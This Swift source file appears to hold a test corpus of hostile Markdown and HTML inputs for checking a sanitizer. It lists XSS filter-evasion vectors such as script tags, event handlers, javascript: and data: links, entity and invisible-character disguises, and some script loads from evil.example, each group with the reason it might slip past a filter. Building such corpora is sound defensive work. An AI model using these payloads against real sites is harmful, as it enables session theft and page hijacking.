/// Attempts at injection through Markdown, each with the reason why it might work, after the classes of OWASP's filter
/// evasion cheat sheet, of PortSwigger's, of html5sec, and of the bugs of Markdown renderers.
enum HostileMarkup {
    /// All of them.
    static let vectors: [String] = rows.map(\.text)

    /// Each vector with its reason.
    static let rows: [(text: String, reason: String)] =
        read(written) + read(mutating)
        + invisible.map { ($0, "characters that are not seen part or precede what a filter looks for") }

    /// A vector a line below the reason for all up to the next; `⏎` is a line break, `⇥` a tab.
    private static func read(_ table: String) -> [(text: String, reason: String)] {
        var reason = ""
        var rows: [(text: String, reason: String)] = []
        for line in table.split(separator: "\n") {
            if line.hasPrefix("## ") {
                reason = String(line.dropFirst(3))
            } else {
                let scalars = line.unicodeScalars.map { $0 == "⏎" ? "\n" : $0 == "⇥" ? "\t" : $0 }
                rows.append((String(String.UnicodeScalarView(scalars)), reason))
            }
        }
        return rows
    }

    /// Disguises in characters that are not seen.
    private static let invisible = [
        "[x](java\u{00AD}script:alert(1))", "[x](\u{200B}javascript:alert(1))", "[x](\u{FEFF}javascript:alert(1))",
        "[x](\u{202E}javascript:alert(1))", "[x](\u{00A0}javascript:alert(1))", "[x](\u{2028}javascript:alert(1))",
        "[x](\u{FF4A}avascript:alert(1))", "[x](javascript\u{FF1A}alert(1))", "[x](https://a.example/\u{202E}gpj.exe)",
        "[x](https://a.example\u{2044}evil.example)", "[x](java\u{0}script:alert(1))", "[x](java\u{1}script:alert(1))",
        "<scr\u{0}ipt>alert(1)</script>", "<\u{0}script>alert(1)</script>", "\u{0B}\u{0C}\u{01}x\u{1B}[31m",
        "<img\u{0C}src=x\u{0C}onerror=alert(1)>", "\u{2028}<script>alert(1)</script>\u{2029}",
        "a\r\n<script>\r\n</script>", "\u{FFFE}\u{FFFF}<b>", "<a href=\"\u{1F600}javascript:alert(1)\">x</a>",
        "[x](\u{7F}javascript:alert(1))", "[x](javascript\u{0301}:alert(1))",
    ]

    private static let written = ##"""
        ## a script element in each of its spellings, closed or not, nested or after a broken tag
        <script>alert(1)</script>
        <SCRIPT SRC=https://evil.example/x.js></SCRIPT>
        <script src="//evil.example/x.js"></script>
        <script/xss src="https://evil.example/x.js"></script>
        <script⇥type="text/javascript">alert(1);</script>
        <script⏎type="text/javascript">alert(1);</script>
        <<script>alert(1);//<</script>
        <script>alert(1)
        <ScRiPt>alert(1)</sCrIpT>
        </script><script>alert(1)</script>
        "><script>alert(1)</script>
        '><script>alert(1)</script>
        <scr<script>ipt>alert(1)</scr</script>ipt>
        ## an image runs a handler when it fails to load, or took a script for its address in old browsers
        <img src=x onerror=alert(1)>
        <img src="javascript:alert(1)">
        <img src=javascript:alert('1')>
        <IMG SRC=JaVaScRiPt:alert('1')>
        <img src=`javascript:alert("1")`>
        <img """><script>alert(1)</script>">
        <img src=# onmouseover="alert(1)">
        <img src onerror=alert(1)>
        <img/src=x/onerror=alert(1)>
        <img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>
        <img src="jav⇥ascript:alert(1);">
        <img src="jav&#x09;ascript:alert(1);">
        <img src="jav&#x0A;ascript:alert(1);">
        <img src=" &#14;  javascript:alert(1);">
        <img dynsrc="javascript:alert(1)">
        <img lowsrc="javascript:alert(1)">
        <img src='vbscript:msgbox("1")'>
        <img srcset="x 1x, javascript:alert(1) 2x">
        ## SVG and MathML have scripts, handlers and links of their own
        <svg/onload=alert(1)>
        <svg><script>alert(1)</script></svg>
        <svg><animate onbegin=alert(1) attributeName=x dur=1s>
        <svg><a xlink:href="javascript:alert(1)"><text x=0 y=20>x</text></a></svg>
        <svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x"/></svg>
        <math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>
        <math href="javascript:alert(1)">x</math>
        ## page elements run handlers or load from elsewhere when they stand in the body
        <body onload=alert(1)>
        <body background="javascript:alert(1)">
        <bgsound src="javascript:alert(1);">
        <br size="&{alert(1)}">
        <link rel="stylesheet" href="javascript:alert(1);">
        <link rel=import href="https://evil.example/x">
        ## style can load, overlay the page, and ran scripts in old browsers
        <style>@import'https://evil.example/x.css';</style>
        <style>body{background:url("javascript:alert(1)")}</style>
        <div style="background-image: url(javascript:alert(1))">
        <div style="width: expression(alert(1));">
        <xss style="behavior: url(xss.htc);">
        <p style="position:fixed;inset:0">
        ## meta and base turn the page or all its links elsewhere
        <meta http-equiv="refresh" content="0;url=javascript:alert(1);">
        <meta http-equiv="refresh" content="0;url=data:text/html;base64,PHNjcmlwdD4=">
        <meta charset="utf-7">
        <base href="javascript:alert(1);//">
        ## frames and plug-ins hold documents of the attacker's
        <iframe src="javascript:alert(1);"></iframe>
        <iframe srcdoc="<script>alert(1)</script>">
        <iframe src=# onload="alert(1)"></iframe>
        <frameset><frame src="javascript:alert(1);"></frameset>
        <object data="javascript:alert(1)">
        <object type="text/x-scriptlet" data="https://evil.example/x.html"></object>
        <embed src="data:image/svg+xml;base64,PHN2Zz4=" type="image/svg+xml">
        <applet code="x">
        ## a resource of a table, a form or a medium is an address that may be a script
        <table background="javascript:alert(1)"><td background="javascript:alert(1)">
        <input type="image" src="javascript:alert(1);">
        <input autofocus onfocus=alert(1)>
        <select autofocus onfocus=alert(1)>
        <textarea autofocus onfocus=alert(1)>
        <button formaction="javascript:alert(1)">x
        <form action="javascript:alert(1)"><input type=submit>
        <form id=x></form><button form=x formaction=javascript:alert(1)>
        <isindex action="javascript:alert(1)" type=image>
        <video><source onerror="alert(1)">
        <video src=x onerror=alert(1)>
        <audio src=x onerror=alert(1)>
        <video poster="javascript:alert(1)">
        ## elements that fire without the reader's doing
        <details open ontoggle=alert(1)>
        <marquee onstart=alert(1)>
        ## a link or a word that acts when it is clicked or touched
        <a href="javascript:alert(1)">x</a>
        <a href="javas&#99;ript:alert(1)">x</a>
        <a href="https://evil.example" onclick="alert(1)">x</a>
        <a href=//evil.example>x</a>
        <a onmouseover=alert(document.cookie)>x</a>
        <b onmouseover=alert(1)>x</b>
        ## the tokenizer's states: what is text to one reader is markup to the next
        <noscript><p title="</noscript><img src=x onerror=alert(1)>">
        <template><script>alert(1)</script></template>
        <title><img src=x onerror=alert(1)></title>
        <xmp><script>alert(1)</script></xmp>
        <plaintext><script>alert(1)</script>
        <!--<img src="--><img src=x onerror=alert(1)//">
        <!--[if gte IE 4]><script>alert(1);</script><![endif]-->
        <!--> <script>alert(1)</script> -->
        <!---> <script>alert(1)</script> -->
        <!-- --!> <script>alert(1)</script> -->
        <! foo="><script>alert(1)</script>">
        <? foo="><script>alert(1)</script>">
        <![CDATA[<script>alert(1)</script>]]>
        <![<!--]]<script>alert(1)//-->
        <% foo><x foo="%><script>alert(1)</script>">
        </ foo="><script>alert(1)</script>">
        <?xml version="1.0"?><html:script xmlns:html="http://www.w3.org/1999/xhtml">alert(1)</html:script>
        ## allowed tags with attributes that are not, and tags that are nearly allowed
        <a/href/=javascript:alert(1)>x
        <x onclick=alert(1) contenteditable>x</x>
        <sup onclick=alert(1)>x</sup>
        <sup><script>alert(1)</script></sup>
        <br onload=alert(1)>
        <br/onload=alert(1)>
        <sup></sub></sup><sub>
        <sup>*</sup>*
        ## a Markdown link to a script, its scheme in other letters, entities, escapes, white space
        [x](javascript:alert(1))
        [x](JAVASCRIPT:alert(1))
        [x](JaVaScRiPt:alert(1))
        [x](javascript://https://example.org/%0aalert(1))
        [x](javascript&colon;alert(1))
        [x](javascript&#58;alert(1))
        [x](javascript&#x3a;alert(1))
        [x](&#106;avascript:alert(1))
        [x](&#x6A;&#x61;&#x76;&#x61;script:alert(1))
        [x](java&Tab;script:alert(1))
        [x](java&NewLine;script:alert(1))
        [x](java&#9;script:alert(1))
        [x](java&#10;script:alert(1))
        [x](java&#13;script:alert(1))
        [x](java&#0;script:alert(1))
        [x](&#1;javascript:alert(1))
        [x](&#x20;javascript:alert(1))
        [x](<javascript:alert(1)>)
        [x](< javascript:alert(1)>)
        [x](<⇥javascript:alert(1)>)
        [x](\javascript:alert(1))
        [x](javascript\:alert(1))
        [x](javascript%3Aalert(1))
        [x](javascript%253Aalert(1))
        [x](%6aavascript:alert(1))
        [x](java%0ascript:alert(1))
        [x](x:javascript:alert(1))
        [x](feed:javascript:alert(1))
        [x](view-source:javascript:alert(1))
        [x](jar:javascript:alert(1))
        ## other schemes that run, show or fetch what they should not
        [x](vbscript:msgbox(1))
        [x](VBScript:msgbox(1))
        [x](livescript:alert(1))
        [x](mocha:alert(1))
        [x](data:text/html,<script>alert(1)</script>)
        [x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
        [x](DATA:text/html,x)
        [x](data&colon;text/html,x)
        [x](data:image/svg+xml;base64,PHN2Zz4=)
        [x](blob:https://example.org/1)
        [x](filesystem:https://example.org/x)
        [x](file:///etc/passwd)
        [x](about:blank)
        [x](ws://example.org)
        [x](ftp://example.org)
        [x](intent://x#Intent;end)
        [x](ms-word:ofe|u|https://example.org)
        ## an address that browsers take for another one than it seems
        [x](//evil.example)
        [x](///evil.example)
        [x](/\evil.example)
        [x](\\\\evil.example)
        [x](https:evil.example)
        [x](https:\\evil.example)
        [x](https:///evil.example)
        [x](http://)
        [x](https://user@evil.example)
        [x](https://google.example%40evil.example@evil.example)
        [x](https://google.example\@evil.example)
        ## leaving the attribute by a quotation mark, an entity or a title
        [x](https://a.example/"onmouseover="alert(1))
        [x](https://a.example/' onmouseover='alert(1))
        [x](<https://a.example/" onmouseover="alert(1)>)
        [x](https://a.example/&quot;onmouseover=&quot;alert(1))
        [x](https://a.example "title" onclick="alert(1)")
        [x](https://a.example 'x" onclick="alert(1)')
        [x](https://a.example "<script>alert(1)</script>")
        [x](https://a.example/<script>alert(1)</script>)
        ## an address for mail with more in it than one
        [x](mailto:a@b.example?subject=x%0d%0aBcc:c@d.example)
        [x](mailto:javascript:alert(1))
        [x](mailto:)
        [x](#"onclick="alert(1))
        ## a link within a link, markup in the words of a link
        [<script>alert(1)</script>](https://a.example)
        [a [b](https://b.example)](https://a.example)
        [a https://b.example c](https://a.example)
        [a <https://b.example> c](https://a.example)
        [![x](javascript:alert(1))](javascript:alert(1))
        [![x](https://a.example/x.png)](https://a.example)
        ## an image whose address or description leaves its attribute
        ![x](javascript:alert(1))
        ![x](data:image/png;base64,iVBORw0KGgo=)
        ![x" onerror="alert(1)](https://a.example/x.png)
        ![<script>](https://a.example/x.png)
        ![x](https://a.example/x.png "t\" onerror=alert(1)")
        ![x](//evil.example/x.png)
        ![[x](javascript:alert(1))](https://a.example/x.png)
        ![](x:y)
        ## a link defined elsewhere in the text
        [x]⏎⏎[x]: javascript:alert(1)
        [x][y]⏎⏎[y]: <data:text/html,x> "t"
        [x]⏎⏎[x]: https://a.example '"><script>alert(1)</script>'
        ## an address in angle brackets or bare, with a script or markup behind it
        <javascript:alert(1)>
        <JAVASCRIPT:alert(1)>
        <data:text/html,x>
        <vbscript:x>
        <https://a.example/"onclick="alert(1)>
        <x@y.example?subject=<script>>
        <a@b.example>
        https://a.example/"onmouseover="alert(1)
        https://a.example/<script>alert(1)</script>
        https://a.example/&quot;><img src=x onerror=alert(1)>
        www.a.example/'><script>alert(1)</script>
        javascript:alert(1)//https://a.example
        http://javascript:alert(1)
        xmpp:a@b.example/"x
        mailto:a@b.example"onclick=alert(1)
        ## code, and what its fence's language becomes in the class
        `<script>alert(1)</script>`
        ``` <script>⏎<script>alert(1)</script>⏎```
        ```"><script>alert(1)</script>⏎x⏎```
        ```js" onclick="alert(1)⏎x⏎```
        ```a&quot;onclick=alert(1)⏎x⏎```
        ~~~ </code></pre><script>⏎</code></pre><script>alert(1)</script>⏎~~~
            <script>alert(1)</script>
        ## markup inside each block of Markdown, and across the marks of emphasis
        > <script>alert(1)</script>
        - <script>alert(1)</script>
        # <script>alert(1)</script>
        <script>⏎===
        **<script>alert(1)</script>**
        ~~<script>~~alert(1)~~</script>~~
        *<b onclick="*alert(1)*">*
        ## tables and what ends them
        | <script>alert(1)</script> |⏎|-|⏎| <img src=x onerror=alert(1)> |
        | x⏎|-⏎| </td></tr></table><script>alert(1)</script>
        ## decoding twice, or in another character set
        &lt;script&gt;alert(1)&lt;/script&gt;
        &#60;script&#62;alert(1)&#60;/script&#62;
        &#x3C;img src=x onerror=alert(1)&#x3E;
        &lt;img src=x onerror=alert(1)&gt;
        \<script>alert(1)</script>
        <\script>alert(1)</script>
        \u003cscript\u003ealert(1)\u003c/script\u003e
        +ADw-script+AD4-alert(1)+ADw-/script+AD4-
        %3Cscript%3Ealert(1)%3C/script%3E
        ＜script＞alert(1)＜/script＞
        ## templates of other languages
        {{constructor.constructor('alert(1)')()}}
        ${alert(1)}
        <%= 7*7 %>
        ## lists with strange numbers, footnotes with markup
        1. <li><script>
        999999999. x
        0. x
        -1. x
        [^1]: <script>alert(1)</script>
        [^1] [^1]: x
        [^<script>]⏎⏎[^<script>]: alert(1)
        [x^1]: <javascript:alert(1)>
        """##
}
